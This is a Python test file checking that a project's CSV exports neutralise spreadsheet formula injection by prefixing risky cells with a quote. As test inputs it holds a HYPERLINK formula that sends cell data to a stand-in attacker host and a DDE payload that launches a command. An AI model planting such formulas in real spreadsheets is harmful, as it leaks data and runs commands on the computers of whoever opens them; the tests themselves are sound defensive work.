"""CSV exports neutralise spreadsheet formula injection (OWASP CSV injection guidance)."""

from __future__ import annotations

import csv
import io

import duckdb
from typer.testing import CliRunner

from ecocluster.core.errors import CheckFailed
from ecocluster.core.home import Home
from ecocluster.flows.cli import app
from ecocluster.warehouse.spreadsheet import safe_cell, write_csv

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_formula_triggers_are_neutralised_and_numbers_kept() -> None:
    for text in (EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(A1:A9)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("-3.5", "+1e3", 42, -7.25, "hotel", "a=b"):
        assert safe_cell(value) == value
    assert safe_cell(None) == ""
    out = io.StringIO()
    write_csv(out, ["member", "note"], [["IT-H01", EVIL], ["IT-H02", -1.5]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["member", "note"],
        ["IT-H01", "'" + EVIL],
        ["IT-H02", "-1.5"],
    ]
    assert out.getvalue().splitlines()[1].startswith('"IT-H01","\'=HYPERLINK')  # every field quoted


def _results_with_member_text(con: duckdb.DuckDBPyConnection) -> None:
    """A blocking check result whose file name and explanation carry a member's formula text."""
    con.execute(
        "INSERT INTO submission VALUES ('s1', 'member', ?, 'json', 'utf-8', 10, now(), 'raw/s1', 'IT-CL')",
        [EVIL + ".json"],
    )
    con.execute("INSERT INTO check_run VALUES ('r1', 2025, 'all', 1, 1, 0, false, '/docs/index.html', now())")
    con.execute("INSERT INTO check_member VALUES (2025, 'IT-H01', 'r1')")
    con.execute(
        "INSERT INTO check_result VALUES ('r1', 2025, 'IT-H01', 'compliance', 'compliance.permit_exceeded',"
        " 'blocking', '@indicator', 's1', 4, '-5', '0', ?)",
        [f"the member wrote {EVIL}"[17:]],
    )


def test_check_report_csv_is_spreadsheet_safe(home: Home, con: duckdb.DuckDBPyConnection) -> None:
    _results_with_member_text(con)
    con.close()
    out = home.root / "report.csv"
    result = CliRunner().invoke(
        app,
        [
            "--home",
            str(home.root),
            "check",
            "report",
            "--year",
            "2025",
            "--format",
            "csv",
            "--out",
            str(out),
            "--fail-on",
            "blocking",
        ],
    )
    assert isinstance(result.exception, CheckFailed), (
        result.output
    )  # asked to, blocking failures say so (exit 4)
    with out.open(encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["member", "severity", "rule", "about", "source", "explanation"]
    member, severity, rule, about, source, explanation = rows[1]
    assert (member, severity, rule) == ("IT-H01", "blocking", "compliance.permit_exceeded")
    assert about == "'@indicator"
    assert source == "'" + EVIL + ".json row 4"
    assert explanation == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_verifier_review_export_is_spreadsheet_safe(
    con: duckdb.DuckDBPyConnection, home: Home, tmp_path
) -> None:
    from ecocluster.core.store import LocalStore
    from ecocluster.signing import export_review
    from tests.signing.rows import ready_member

    store = LocalStore(home.objects_dir)
    ready_member(con, store)
    con.execute(
        "INSERT INTO check_result VALUES ('run-IT-CL-001-2025', 2025, 'IT-CL-001', 'plausibility', "
        "'plausibility.jump', 'warning', '-energy', NULL, NULL, '-12.5', NULL, ?)",
        [EVIL],
    )
    export_review(con, store, "IT-CL-001", tmp_path / "review")
    with (tmp_path / "review" / "check-report.csv").open(encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["suite", "expectation", "severity", "indicator", "observed", "expected", "explanation"]
    assert rows[1][3:] == ["'-energy", "-12.5", "", "'" + EVIL]
